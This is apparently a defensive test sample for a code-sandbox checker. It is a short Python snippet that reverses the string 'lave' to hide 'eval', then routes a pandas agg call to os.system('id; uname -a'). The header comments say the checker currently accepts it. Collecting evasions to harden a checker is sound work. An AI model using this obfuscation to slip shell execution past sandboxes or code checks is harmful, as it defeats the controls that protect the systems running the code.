# Source: black-box attack on sandexec's check, 2026-11-26 (second round).
# Family: pandas method looked up by a name built at run time (agg/apply/transform/pipe reach eval/query/to_csv).
# Accepted by 'sandexec check' today; move to tests/data/evasion/ once refused.
import json
import pandas as pd
df = pd.DataFrame({"m": [pd]})
name = "lave"[::-1]
df.agg(name, expr="m[0].io.common." + "o" + "s.system('id; uname -a')", engine="python")
print(json.dumps({"ok": 1}))
